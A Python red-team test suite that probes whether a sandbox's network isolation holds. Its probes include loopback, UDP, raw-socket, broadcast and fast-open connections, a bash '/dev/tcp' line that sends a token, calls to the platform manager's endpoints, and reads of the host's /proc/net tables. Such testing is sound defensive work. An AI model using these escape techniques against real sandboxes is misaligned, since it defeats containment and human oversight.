"""To addresses outside, and from outside in."""

from __future__ import annotations

import asyncio

from tests.ports import free_ports
from tests.redteam.attack import arrives, claims, command, python, shows, steps
from tests.redteam.promises import Promise
from tests.redteam.scene import Scene, until


@steps("serve-the-host", Promise.NETWORK, breaks_plain=True)
async def serve_the_host(scene: Scene) -> str | None:
    """A listener in the sandbox that the host can connect to."""
    [port] = free_ports(1)
    reached = False

    async def connect() -> bool:
        nonlocal reached
        try:
            _, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            return False
        writer.close()
        reached = True
        return True

    listening = (
        f"server = socket.create_server(('', {port}))\nserver.settimeout(2)\n"
        "try: server.accept()\nexcept TimeoutError: print('nobody came')"
    )
    await asyncio.gather(scene.python(listening), until(connect, 3))
    return "the host reached a listener in the sandbox" if reached else None


@steps("bypass-by-the-loopback-of-a-twin", Promise.NETWORK, breaks_plain=True)
async def meet_on_loopback(scene: Scene) -> str | None:
    """Two sandboxes meet on a port of the loopback interface."""
    [port] = free_ports(1)
    other = await scene.open()
    wait = (
        f"server = socket.create_server(('127.0.0.1', {port}))\nserver.settimeout(3)\n"
        "try: reveal(server.accept()[0].recv(100)); breached('a twin called')\n"
        "except TimeoutError: print('nobody came')"
    )
    call = f"""
for _ in range(50):
    try:
        socket.create_connection(('127.0.0.1', {port})).sendall(b'hello')
        break
    except OSError:
        time.sleep(0.05)
"""
    await asyncio.gather(scene.python(wait), scene.python(call, sandbox=other))
    return claims()(scene)


ATTACKS = (
    python(
        "loopback",
        Promise.NETWORK,
        "caller = socket.create_connection(('127.0.0.1', TCP_PORT), 3)\n"
        "caller.sendall(TOKEN.encode())\nreveal(caller.recv(100))",
        arrives(),
        shows("greeting"),
        breaks_plain=True,
    ),
    python(
        "loopback-of-version-6",
        Promise.NETWORK,
        "caller = socket.create_connection(('::1', TCP_PORT), 3)\n"
        "caller.sendall(TOKEN.encode())\nreveal(caller.recv(100))",
        arrives(),
        shows("greeting"),
    ),
    python(
        "datagrams",
        Promise.NETWORK,
        "caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "for _ in range(3): caller.sendto(TOKEN.encode(), ('127.0.0.1', UDP_PORT))\n"
        "time.sleep(0.1)",
        arrives(),
        breaks_plain=True,
    ),
    python(
        "address-of-the-machine",
        Promise.NETWORK,
        "caller = socket.create_connection((HOST_ADDRESS, TCP_PORT), 3)\n"
        "caller.sendall(TOKEN.encode())\nreveal(caller.recv(100))",
        arrives(),
        shows("greeting"),
        breaks_plain=True,
    ),
    command(
        "connect-from-a-shell",
        Promise.NETWORK,
        'bash -c "exec 3<>/dev/tcp/127.0.0.1/$TCP_PORT && echo $TOKEN >&3 && head -1 <&3"; true',
        arrives(),
        shows("greeting"),
        breaks_plain=True,
    ),
    python(
        "connect-without-connect",
        Promise.NETWORK,
        "caller = socket.socket()\n"
        "caller.sendto(TOKEN.encode(), 0x20000000, ('127.0.0.1', TCP_PORT))  # MSG_FASTOPEN\n"
        "reveal(caller.recv(100))",
        arrives(),
        shows("greeting"),
        breaks_plain=True,
    ),
    python(
        "multipath-tcp",
        Promise.NETWORK,
        "caller = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\ncaller.settimeout(3)\n"
        "caller.connect(('127.0.0.1', TCP_PORT))\ncaller.sendall(TOKEN.encode())\n"
        "reveal(caller.recv(100))",
        arrives(),
        shows("greeting"),
    ),
    python(
        "the-manager-from-inside",
        Promise.NETWORK,
        "import urllib.request\nfor port in (MANAGER_PORT, NODE_PORT):\n"
        "    url = f'http://127.0.0.1:{port}/livez'\n"
        "    with urllib.request.urlopen(url, timeout=3) as answer:\n"
        "        breached(f'the platform answered on {port}: {answer.status}')",
        claims(),
        breaks_plain=True,
    ),
    python(
        "interfaces-of-the-host",
        Promise.NETWORK,
        "names = {name for _, name in socket.if_nameindex()} - {'lo'}\n"
        "# A network namespace may be born with tunnels that lead nowhere.\n"
        "if any(name.startswith(('en', 'et', 'wl', 'ifb', 'docker')) for name in names):\n"
        "    breached(f'sees {names}')",
        claims(),
    ),
    python(
        "connections-of-the-host",
        Promise.NETWORK,
        "port = b':%04X ' % TCP_PORT\n"
        "for name in ('tcp', 'tcp6'):\n"
        "    if port in peek('/proc/net/' + name): breached('sees the listeners of the host')",
        claims(),
        breaks_plain=True,
    ),
    python(
        "abstract-names-of-the-host",
        Promise.NETWORK,
        "if ABSTRACT.encode() in peek('/proc/net/unix'): breached('sees unix sockets')",
        claims(),
        breaks_plain=True,
    ),
    python(
        "raw-datagrams",
        Promise.NETWORK,
        "caller = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)\n"
        "packet = struct.pack('!HHHH', 9, UDP_PORT, 8 + len(TOKEN), 0) + TOKEN.encode()\n"
        "caller.sendto(packet, ('127.0.0.1', 0))\ntime.sleep(0.1)",
        arrives(),
    ),
    python(
        "sockets-inherited",
        Promise.NETWORK,
        """
for fd in range(256):
    try:
        family = socket.socket(fileno=os.dup(fd)).getsockopt(socket.SOL_SOCKET, socket.SO_DOMAIN)
    except OSError:
        continue
    if family in (socket.AF_INET, socket.AF_INET6):
        breached(f'descriptor {fd} is a socket of the network')
""",
        claims(),
    ),
    python(
        "broadcast",
        Promise.NETWORK,
        "caller = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "caller.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n"
        "for address in ('255.255.255.255', '127.255.255.255'):\n"
        "    caller.sendto(TOKEN.encode(), (address, UDP_PORT))\ntime.sleep(0.1)",
        arrives(),
    ),
    serve_the_host,
    meet_on_loopback,
)
